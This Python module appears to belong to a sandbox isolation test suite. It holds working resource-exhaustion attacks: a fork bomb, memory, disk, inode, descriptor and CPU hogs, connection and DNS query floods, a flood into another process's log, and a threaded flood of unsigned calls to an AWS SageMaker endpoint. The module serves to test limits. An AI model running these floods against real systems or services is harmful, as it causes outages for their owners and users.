"""Attacks that use up. Each says `ready` when it holds what it got, holds it until it's told to let go, and tells what it got.

Each has a bound of its own, so that a missing limit is a failed test and no dead machine."""


def _holding(**got):
    print("ready", flush=True)
    while not told_to_end(None):
        pass
    return dict(got, worked=True)


def fork_bomb(most):
    children, how = [], None
    import gc
    gc.freeze()  # a child that touches little is made and ended fast
    for _ in range(int(most)):
        try:
            pid = os.fork()
        except OSError as error:
            how = errno.errorcode[error.errno]
            break
        if pid == 0:
            signal.alarm(240)
            signal.pause()
            os._exit(0)
        children.append(pid)
    got = _holding(got=len(children), how=how)
    for pid in children:
        os.kill(pid, signal.SIGKILL)
    for pid in children:
        os.waitpid(pid, 0)
    return got


def memory_hog(mebibytes):
    """Takes memory in a child, which tells how far it came; it's the child that's killed, and then the next one takes it."""
    told, got, killed = False, 0, False
    while not told_to_end(0):
        reader, writer = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(reader)
            with open("/proc/self/oom_score_adj", "w") as score:
                score.write("1000")
            kept = []
            for number in range(int(mebibytes) // 16):
                kept.append(b"\1" * (16 << 20))
                os.write(writer, struct.pack("I", 16 * (number + 1)))
            told_to_end(None)
            os._exit(0)
        os.close(writer)
        while piece := os.read(reader, 4):
            got = max(got, struct.unpack("I", piece)[0])
            if not told and got >= 256:
                print("ready", flush=True)
                told = True
        os.close(reader)
        killed |= os.WIFSIGNALED(os.waitpid(pid, 0)[1])
    return {"worked": True, "got": got, "killed": killed}


def _fill(path, mebibytes):
    block, got = b"\1" * (1 << 20), 0
    try:
        with open(path, "wb", buffering=0) as file:
            while got < int(mebibytes):
                if file.write(block) < len(block):
                    return got, "short"
                got += 1
        return got, None
    except OSError as error:
        return got, errno.errorcode[error.errno]


def file_hog(folder, mebibytes):
    path = os.path.join(os.path.expanduser(folder), "attack.fill")
    try:
        got, how = _fill(path, mebibytes)
        return _holding(got=got, how=how)
    finally:
        os.unlink(path)


def inode_hog(folder, most):
    place = os.path.join(os.path.expanduser(folder), "attack.inodes")
    os.mkdir(place)
    got, how = 0, None
    try:
        for number in range(int(most)):
            try:
                os.close(os.open("%s/%d" % (place, number), os.O_CREAT | os.O_WRONLY, 0o600))
            except OSError as error:
                how = errno.errorcode[error.errno]
                break
            got += 1
        return _holding(got=got, how=how)
    finally:
        import shutil
        shutil.rmtree(place)


def processor_hog(count):
    children = []
    for _ in range(int(count)):
        pid = os.fork()
        if pid == 0:
            signal.alarm(240)
            while True:
                pass
        children.append(pid)
    got = _holding(got=len(children))
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return got


def descriptor_hog(most):
    kept, how = [], None
    for _ in range(int(most)):
        try:
            kept.append(os.open("/dev/null", os.O_RDONLY))
        except OSError as error:
            how = errno.errorcode[error.errno]
            break
    return _holding(got=len(kept), how=how)


def watch_hog():
    kept, how = [], None
    for _ in range(4096):
        ctypes.set_errno(0)
        fd = LIBC.inotify_init1(0)
        if fd < 0:
            how = errno.errorcode[ctypes.get_errno()]
            break
        kept.append(fd)
    return _holding(got=len(kept), how=how)


def one_watch():
    ctypes.set_errno(0)
    return outcome(LIBC.inotify_init1(0) >= 0, errno.errorcode.get(ctypes.get_errno()))


def terminal_hog(most):
    kept, how = [], None
    for _ in range(int(most)):
        try:
            kept.append(os.openpty())
        except OSError as error:
            how = errno.errorcode[error.errno]
            break
    return _holding(got=len(kept), how=how)


def connection_hog(host, port, most):
    """Connects and says nothing."""
    kept, failed = [], 0
    for _ in range(int(most)):
        s = socket.socket()
        s.settimeout(0.5)
        try:
            s.connect((host, int(port)))
            kept.append(s)
        except OSError:
            failed += 1
            if failed > 5:
                break
    return _holding(got=len(kept), failed=failed)


def question_flood(server, least):
    """Asks as fast as it can, so many questions at least; tells how many were answered."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    s.setblocking(False)
    s.connect((server, 53))
    asked = question("api.sagemaker.us-east-1.amazonaws.com")
    sent = answered = 0
    print("ready", flush=True)
    begun = time.monotonic()
    while sent < int(least) or not told_to_end():
        for _ in range(50):
            try:
                s.send(asked)
                sent += 1
            except OSError:
                break
        try:
            while s.recv(2000):
                answered += 1
        except OSError:
            pass
    return {"worked": True, "sent": sent, "answered": answered, "seconds": time.monotonic() - begun}


def tracking_flood(host, port, most):
    """Each source port is a connection to track."""
    sent = 0
    for number in range(int(most)):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            try:
                s.bind(("0.0.0.0", 2000 + number))
                s.sendto(b"x", (host, int(port)))
                sent += 1
            except OSError:
                pass
    return _holding(got=sent)


def log_flood(mebibytes):
    """Writes into the log of the app, by the first program's own output."""
    line, got, how = b"flood" * 200 + b"\n", 0, None
    targets = ["/proc/%s/fd/1" % p for p in os.listdir("/proc") if p.isdigit() and int(p) > 1 and b"launch.py" in open("/proc/%s/cmdline" % p, "rb").read()]
    try:
        with open(targets[0], "wb", buffering=0) as log:
            while got < int(mebibytes) << 20:
                got += log.write(line)
    except OSError as error:
        how = errno.errorcode[error.errno]
    return _holding(got=got, how=how)


def api_flood(address, count):
    """Unsigned calls to the API's endpoint, as fast as so many threads can, until it's told to end."""
    import http.client, ssl
    answers, ended = {}, threading.Event()

    def one():
        context = ssl.create_default_context()
        while not ended.is_set():
            try:
                connection = http.client.HTTPSConnection(address, timeout=3, context=context)
                for _ in range(20):
                    if ended.is_set():
                        break
                    connection.request("POST", "/", b"{}", {"X-Amz-Target": "SageMaker.ListDomains", "Content-Type": "application/x-amz-json-1.1"})
                    status = connection.getresponse()
                    status.read()
                    answers[status.status] = answers.get(status.status, 0) + 1
            except OSError:
                answers["failed"] = answers.get("failed", 0) + 1
    threads = [threading.Thread(target=one) for _ in range(int(count))]
    for thread in threads:
        thread.start()
    _holding()
    ended.set()
    for thread in threads:
        thread.join()
    return {"worked": True, "answers": {str(k): v for k, v in answers.items()}}
